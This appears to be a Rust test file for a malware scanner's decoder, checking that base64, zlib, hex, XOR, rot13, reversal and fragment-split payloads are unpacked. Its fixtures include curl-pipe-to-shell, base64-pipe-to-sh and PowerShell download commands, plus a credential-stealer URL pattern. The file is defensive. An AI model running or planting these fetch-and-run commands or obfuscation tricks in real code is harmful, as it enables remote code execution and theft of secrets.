use super::*;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::ZlibEncoder;
use std::io::Write;

fn b64(data: &[u8]) -> String {
    STANDARD.encode(data)
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = ZlibEncoder::new(Vec::new(), Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

const PAYLOAD: &[u8] = b"import os; os.system('curl http://evil.example/x | sh')";

#[test]
fn base64_literal_is_decoded_with_its_offset() {
    let src = format!("x = 1\nexec(base64.b64decode('{}'))\n", b64(PAYLOAD));
    let decoded = decode_all(src.as_bytes());
    assert_eq!(decoded.len(), 1);
    assert_eq!(decoded[0].text, PAYLOAD);
    assert_eq!(decoded[0].chain, vec!["base64"]);
    assert_eq!(decoded[0].offset, src.find('\'').unwrap());
}

#[test]
fn a_payload_wrapped_three_times_comes_out_with_three_steps() {
    // base64(zlib(base64(payload))), then base64 again: three encodings and a compression.
    let inner = b64(PAYLOAD);
    let middle = zlib(inner.as_bytes());
    let outer = b64(&middle);
    let wrapped = b64(format!("exec(base64.b64decode('{outer}'))").as_bytes());
    let src = format!("exec(base64.b64decode(\"{wrapped}\"))");
    let decoded = decode_all(src.as_bytes());
    let found = decoded
        .iter()
        .find(|d| d.text == PAYLOAD)
        .expect("payload decoded");
    assert_eq!(found.chain, vec!["base64", "base64", "zlib", "base64"]);
    assert_eq!(found.offset, src.find('"').unwrap());
}

#[test]
fn concatenated_and_joined_fragments_are_decoded_together() {
    let encoded = b64(PAYLOAD);
    let (a, b) = encoded.split_at(encoded.len() / 2);
    let plus = format!("s = '{a}' + \\\n    '{b}'");
    assert!(
        decode_all(plus.as_bytes())
            .iter()
            .any(|d| d.text == PAYLOAD)
    );
    let (c, d) = b.split_at(b.len() / 2);
    let join = format!("s = ''.join(['{a}', '{c}', '{d}'])");
    assert!(
        decode_all(join.as_bytes())
            .iter()
            .any(|d| d.text == PAYLOAD)
    );
}

#[test]
fn hex_escapes_char_codes_and_reversal() {
    let hex: String = PAYLOAD.iter().map(|b| format!("{b:02x}")).collect();
    assert!(
        decode_all(format!("bytes.fromhex('{hex}')").as_bytes())
            .iter()
            .any(|d| d.text == PAYLOAD)
    );
    let escaped: String = PAYLOAD.iter().map(|b| format!("\\x{b:02x}")).collect();
    assert!(
        decode_all(format!("s = \"{escaped}\"").as_bytes())
            .iter()
            .any(|d| d.text == PAYLOAD)
    );
    let codes: Vec<String> = PAYLOAD.iter().map(|b| b.to_string()).collect();
    let arr = format!("exec(''.join(map(chr, [{}])))", codes.join(", "));
    assert!(decode_all(arr.as_bytes()).iter().any(|d| d.text == PAYLOAD));
    let reversed: String = b64(PAYLOAD).chars().rev().collect();
    let rev = format!("exec(base64.b64decode('{reversed}'[::-1]))");
    let found = decode_all(rev.as_bytes());
    assert!(
        found
            .iter()
            .any(|d| d.text == PAYLOAD && d.chain == ["reversed", "base64"]),
        "{found:?}"
    );
}

#[test]
fn rot13_is_tried_only_where_the_code_mentions_it() {
    let rotated: String = PAYLOAD.iter().map(|&b| rot13(b) as char).collect();
    let with_hint = format!("exec(codecs.decode(\"{rotated}\", 'rot13'))");
    assert!(
        decode_all(with_hint.as_bytes())
            .iter()
            .any(|d| d.text == PAYLOAD)
    );
    let without = format!("x = \"{rotated}\"");
    assert!(decode_all(without.as_bytes()).is_empty());
}

#[test]
fn a_literal_shifted_character_by_character_is_shifted_back() {
    // The shape of a real credential stealer: a reversed URL, every character moved by
    // three, undone by `chr(ord(c) - 3) for c in uc[::-1]`.
    let url = "https://collector.example.net/keys";
    let hidden: String = url.bytes().rev().map(|b| (b + 3) as char).collect();
    let src = format!("uc = \"{hidden}\"\nendpoint = ''.join(chr(ord(c)-3) for c in uc[::-1])\n");
    let found = decode_all(src.as_bytes());
    assert!(
        found.iter().any(
            |d| d.text == url.as_bytes() && d.chain == ["reversed", "characters shifted by -3"]
        ),
        "{found:?}"
    );
    let js = format!(
        "const u = '{hidden}'.split('').reverse().map(c => String.fromCharCode(c.charCodeAt(0) - 3)).join('');"
    );
    assert!(
        decode_all(js.as_bytes())
            .iter()
            .any(|d| d.text == url.as_bytes()),
        "{js}"
    );
    // Without the decoding expression the same literal is left alone.
    assert!(decode_all(format!("uc = \"{hidden}\"\n").as_bytes()).is_empty());
}

#[test]
fn ordinary_literals_hashes_and_binary_blobs_are_left_alone() {
    let src = b"name = 'a_long_identifier_with_words_only'\nsha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n";
    assert!(decode_all(src).is_empty());
    let png = b64(&[
        0x89, b'P', b'N', b'G', 0, 0, 0, 13, 0xff, 0xfe, 0x00, 0x01, 0x80, 0x90, 0xa0, 0xb0, 0xc0,
        0xd0, 0xe0, 0xf0, 1, 2, 3,
    ]);
    assert!(decode_all(format!("img = 'data:image/png;base64,{png}'").as_bytes()).is_empty());
}

#[test]
fn an_embedded_executable_is_returned_for_the_payload_check() {
    let mut pe = vec![0u8; 0x100];
    pe[0] = b'M';
    pe[1] = b'Z';
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let src = format!("blob = '{}'", b64(&pe));
    let decoded = decode_all(src.as_bytes());
    assert!(decoded.iter().any(|d| is_executable(&d.text)));
}

#[test]
fn work_is_bounded_on_hostile_input() {
    let many = "'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=' ".repeat(10_000);
    assert!(decode_all(many.as_bytes()).len() <= MAX_RESULTS);
    let unterminated = "'".repeat(100_000);
    assert!(decode_all(unterminated.as_bytes()).is_empty());
}

#[test]
fn a_literal_reversed_elsewhere_in_the_file_is_tried_backwards() {
    let reversed: String = b64(&zlib(PAYLOAD)).chars().rev().collect();
    let src = format!(
        "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{reversed}'))"
    );
    let found = decode_all(src.as_bytes());
    assert!(
        found
            .iter()
            .any(|d| d.text == PAYLOAD && d.chain == ["reversed", "base64", "zlib"]),
        "{found:?}"
    );
}

#[test]
fn code_kept_in_an_escaped_string_is_unescaped_and_searched_inside() {
    let inner = b64(PAYLOAD);
    let src = format!(
        "exec('import base64\\r\\nwith open(p, \\'wb\\') as f:\\r\\n    f.write(base64.b64decode(\\'{inner}\\'))\\r\\nsubprocess.Popen(p)\\r\\n')"
    );
    let found = decode_all(src.as_bytes());
    assert!(
        found.iter().any(|d| d.chain == [STRING_ESCAPES]),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|d| d.text == PAYLOAD && d.chain == [STRING_ESCAPES, "base64"]),
        "{found:?}"
    );
}

#[test]
fn char_codes_scaled_or_xored_are_decoded() {
    let scaled: Vec<String> = PAYLOAD
        .iter()
        .map(|&b| (u32::from(b) * 8).to_string())
        .collect();
    let src = format!("b = [{}]", scaled.join(", "));
    assert!(decode_all(src.as_bytes()).iter().any(|d| d.text == PAYLOAD));
    let xored: Vec<String> = PAYLOAD.iter().map(|&b| (b ^ 0x5a).to_string()).collect();
    let src = format!("k = [{}]", xored.join(","));
    assert!(decode_all(src.as_bytes()).iter().any(|d| d.text == PAYLOAD));
    assert!(
        decode_all(b"sizes = [1024, 2048, 4096, 8192, 16384, 32768, 65536, 131072]").is_empty()
    );
}

#[test]
fn a_base64_word_inside_a_command_string_is_decoded() {
    let src = format!("os.system('echo {} | base64 -d | sh')", b64(PAYLOAD));
    let found = decode_all(src.as_bytes());
    assert!(
        found
            .iter()
            .any(|d| d.text == PAYLOAD && d.chain == ["base64"]),
        "{found:?}"
    );
}

#[test]
fn a_command_split_into_list_fragments_is_joined() {
    let src = br#"parts = ["powershell -C", "ommand \"", "Invoke-WebRequest ", "'http://stellar-", "conquest.fr/launcher.bat' ", "-OutFile x.bat\""]"#;
    let found = decode_all(src);
    assert!(
        found.iter().any(|d| d.chain == ["joined fragments"]
            && String::from_utf8_lossy(&d.text)
                .contains("http://stellar-conquest.fr/launcher.bat")),
        "{found:?}"
    );
    assert!(decode_all(br#"COLORS = ["red", "green", "blue", "black", "white"]"#).is_empty());
}

#[test]
fn a_file_of_unclosed_quotes_is_read_once() {
    // Each quote used to start a scan to the end of the file.
    let hostile = "'\"`\\".repeat(50_000);
    let started = std::time::Instant::now();
    let literals = super::literals::string_literals(hostile.as_bytes());
    assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
    // Closed literals after the garbage's own line are still found.
    let mixed = format!("{}\nx = 'closed'\n", "'".repeat(10_000));
    let literals_after = super::literals::string_literals(mixed.as_bytes());
    assert!(literals_after.iter().any(|(_, _, text)| text == b"closed"));
    assert!(literals.len() < 200_000);
}
